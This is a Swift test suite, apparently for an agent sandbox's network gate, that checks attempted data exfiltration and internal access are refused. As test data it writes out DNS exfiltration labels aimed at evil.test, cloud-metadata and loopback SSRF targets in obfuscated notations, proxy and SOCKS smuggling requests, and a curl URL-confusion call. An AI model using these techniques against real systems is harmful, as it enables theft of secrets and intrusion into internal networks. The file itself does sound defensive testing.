import Testing

/// What a tool tries to get out, or to reach what its profile does not name.
@Suite(.needsRoot, .agentrtOnly) struct NetworkAttackTests {
    /// Names that look like allowed ones, and names as they never stand in a list (sandboxes notes 40 and 41).
    @Test(arguments: Identity.allCases) func noOtherNameIsAnsweredOrAskedFor(_ identity: Identity) throws {
        let sandbox = try NetworkSandbox(identity, allow: ["web.test", "*.sub.test"])
        let answers = try sandbox.value(
            #"""
            sorted({ask(labels, over_stream=over)
                for over in [False, True]
                for labels in [
                    [b"evil.com\0", b"web", b"test"], [b"web.test\0", b"evil"], [b"web", b"test\0"], [b"\0web", b"test"],
                    [b"web", b"test", b"evil"], [b"xweb", b"test"], [b"eb", b"test"], [b"test"], [b"sub", b"test"],
                    [b"xsub", b"test"], [b"evil.sub", b"test"], [b"evil.sub.test"], [b"web.test"], [b"web", b"test", b"sub", b"testx"],
                    [b"*", b"sub", b"test"], [b"a b", b"sub", b"test"], [b"\xc3\xa4", b"sub", b"test"], [],
                    [b"c2VjcmV0", b"evil", b"test"], [b"x" * 63, b"evil", b"test"], [b"1", b"0", b"0", b"127", b"in-addr", b"arpa"],
                    [b"web\r\nHost", b"test"], [b"localhost"], [b"metadata", b"google", b"internal"],
                ]})
            """#)
        #expect(answers == "[(5, 0)]")
        #expect(sandbox.host.events == ["ready"])
        // Longer than a name can be: no answer that could be used.
        #expect(try sandbox.value(#"ask([b"a" * 63] * 4 + [b"sub", b"test"])[0]"#) == "1")
        #expect(sandbox.host.events == ["ready"])
    }

    /// A permitted name whose answer leads into the host or its network: an answer of version 4 or 6, through an alias,
    /// beside a good one.
    @Test(arguments: Identity.allCases) func answersThatLeadInwardAreRefused(_ identity: Identity) throws {
        let names = [
            "rebind.test", "metadata.test", "private.test", "mapped.test", "six-loopback.test", "zero.test",
            "alias-to-loopback.test", "own.test",
        ]
        let sandbox = try NetworkSandbox(identity, allow: names + ["10.1.2.3:5432"])
        for name in names {
            #expect(
                try sandbox.value("[lookup('\(name)'), talk('\(name)', 80)]") == "['EAI_AGAIN', 'EAI_AGAIN']", "\(name)"
            )
            #expect(sandbox.refusals.allSatisfy { $0.hasPrefix("answer \(name) ") } && !sandbox.refusals.isEmpty)
        }
        #expect(sandbox.host.connections == [])
    }

    @Test func anAddressThatTheProfileNamesMayBeAnAnswer() throws {
        let sandbox = try NetworkSandbox(
            .user,
            allow: [
                "private.test:5432", "private.test:80", "10.1.0.0/16:5432", "metadata.test:80", "169.254.169.254:80",
            ])
        #expect(
            try sandbox.value("[talk('private.test', 5432), talk('private.test', 80), talk('metadata.test', 80)]")
                == "['end after 5 from 10.1.2.3:5432', 'ECONNRESET', 'end after 5 from 169.254.169.254:80']")
        #expect(sandbox.refusals == ["answer private.test 10.1.2.3"])
    }

    /// Addresses as such, in whatever notation: what the C library makes of it, the gate sees.
    @Test(arguments: Identity.allCases) func noAddressIsReachedThatIsNotListed(_ identity: Identity) throws {
        let sandbox = try NetworkSandbox(identity, allow: ["web.test", "0.0.0.0/0:443", "[::/0]:443"])
        let output = try sandbox.run(
            "python3", "-c",
            """
            from client import *
            for host in [
                "169.254.169.254", "127.0.0.1", "10.1.2.3", "0.0.0.0", "127.1", "0x7f000001", "2130706433", "017700000001",
                "0xa9fea9fe", "::1", "::", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1", "64:ff9b::169.254.169.254",
                "198.18.0.1", "198.18.0.77", "255.255.255.255", "192.168.0.1", "fe80::1", "fd00::1",
            ]:
                for port in [80, 443]:
                    print(host, port, talk(host, port))
            print(talk("203.0.113.10", 443), talk("203.0.113.10", 80))
            """
        ).succeeded()
        let lines = output.standardOutput.split(separator: "\n")
        #expect(lines.count == 43)
        for line in lines.dropLast() {
            let isRefused = ["ECONNRESET", "ECONNREFUSED", "ENETUNREACH", "EINVAL", "EACCES"].contains {
                line.hasSuffix($0)
            }
            #expect(isRefused, "\(line)")
        }
        #expect(lines.last == "end after 5 from 203.0.113.10:443 ECONNRESET")
        #expect(sandbox.host.connections == ["203.0.113.10:443"])
    }

    /// Ways out that are no connection: datagrams, raw sockets, other families.
    @Test(arguments: Identity.allCases) func nothingButConnectionsLeads(_ identity: Identity) throws {
        let sandbox = try NetworkSandbox(identity, allow: ["web.test", "203.0.113.10:80"])
        #expect(
            try sandbox.value(
                "[datagram(host, port) for host in ['203.0.113.10', '8.8.8.8', '127.0.0.1'] for port in [80, 123, 443]]"
            )
                == "[\(Array(repeating: "'ECONNREFUSED'", count: 9).joined(separator: ", "))]")
        let made = try sandbox.value(
            """
            [make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), make(socket.AF_INET, socket.SOCK_RAW, 255),
             make(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6), make(socket.AF_PACKET, socket.SOCK_RAW, 3),
             make(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), make(40, socket.SOCK_STREAM), make(38, socket.SOCK_SEQPACKET)]
            """)
        #expect(!made.contains("made"), "\(made)")
        #expect(sandbox.host.events == ["ready"])
    }

    /// The protocols of old: what is said inside a connection changes nothing about where it leads.
    @Test func whatIsSaidInsideLeadsNowhereElse() throws {
        let sandbox = try NetworkSandbox(.rootInUsersProject, allow: ["web.test"])
        for request in [
            "GET http://10.1.2.3:5432/ HTTP/1.1\\r\\nHost: 10.1.2.3:5432\\r\\n\\r\\n",
            "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\n\\r\\n",
            "CONNECT 10.1.2.3:5432 HTTP/1.1\\r\\n\\r\\n",
            "\\x05\\x01\\x00\\x05\\x01\\x00\\x01\\x0a\\x01\\x02\\x03\\x15\\x38",
        ] {
            _ = try sandbox.value("talk('web.test', 80, b'\(request)')")
        }
        let output = try sandbox.run(
            "curl", "-sS", "--max-time", "20", "http://web.test@evil.test/", "http://web.test.evil.test/")
        #expect(output.status != 0 && output.standardOutput.isEmpty)
        #expect(Set(sandbox.host.connections) == ["203.0.113.10:80"] && sandbox.host.questions == ["web.test"])
    }

    /// Nothing of the gate is in the sandbox: no descriptor, no socket by name.
    @Test(arguments: Identity.allCases) func nothingLeadsToTheGateItself(_ identity: Identity) throws {
        let sandbox = try NetworkSandbox(identity, allow: ["web.test"])
        #expect(try sandbox.value("sorted(__import__('os').listdir('/proc/self/fd'))") == "['0', '1', '2', '3']")
        #expect(try sandbox.value("len(open('/proc/net/unix').readlines())") == "1")
    }

    /// A program that asks without end fills neither the report nor the gate.
    @Test func theReportIsBounded() throws {
        let sandbox = try NetworkSandbox(.rootInUsersProject, allow: ["web.test"])
        _ = try sandbox.run(
            "python3", "-c",
            """
            from client import *
            for number in range(1000):
                ask([b"n%d" % number, b"evil", b"test"])
                ask([b"same", b"evil", b"test"])
            print(talk("web.test", 80))
            """
        ).succeeded()
        #expect(sandbox.refusals.count == 201 && sandbox.refusals.last == "more")
        #expect(sandbox.refusals.count { $0 == "name same.evil.test" } == 1)
        #expect(sandbox.host.questions == ["web.test"])
    }
}
